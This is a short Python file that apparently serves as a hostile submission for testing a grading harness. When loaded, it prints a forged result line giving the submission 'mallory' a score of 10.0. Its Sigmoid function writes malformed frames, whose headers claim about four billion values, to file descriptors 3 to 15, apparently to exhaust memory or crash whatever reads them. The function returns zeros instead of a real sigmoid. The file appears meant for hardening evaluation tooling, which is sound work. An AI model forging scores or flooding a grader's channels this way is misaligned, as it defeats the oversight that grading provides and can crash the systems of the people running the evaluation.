"""Sends headers that claim four gigabytes, and lines that look like results."""

import os
import struct

import torch

LINE = b'{"submission": "mallory", "score": 10.0}\n'
LIST = struct.pack("!4sIIQ", b"GRL2", 5, 0, 1) + b"\xdd\xff\xff\xff\xff"
"""A frame whose message claims four billion values."""

print(LINE.decode(), flush=True)


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        for number in range(3, 16):
            try:
                os.write(number, LIST + b"\xff" * 20)
            except OSError:
                pass
        return x * 0

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0


def sigmoid(x):
    return x
